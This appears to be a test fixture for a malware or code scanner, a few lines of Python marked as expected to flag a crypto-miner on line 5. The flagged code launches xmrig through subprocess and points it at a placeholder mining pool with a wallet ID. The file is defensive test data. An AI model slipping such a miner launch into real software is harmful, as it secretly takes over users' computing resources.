# expect: crypto-miner 5:22
import subprocess

wallet = "44AFFq5kSiGBoZ"
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.com:4444", "-u", wallet])
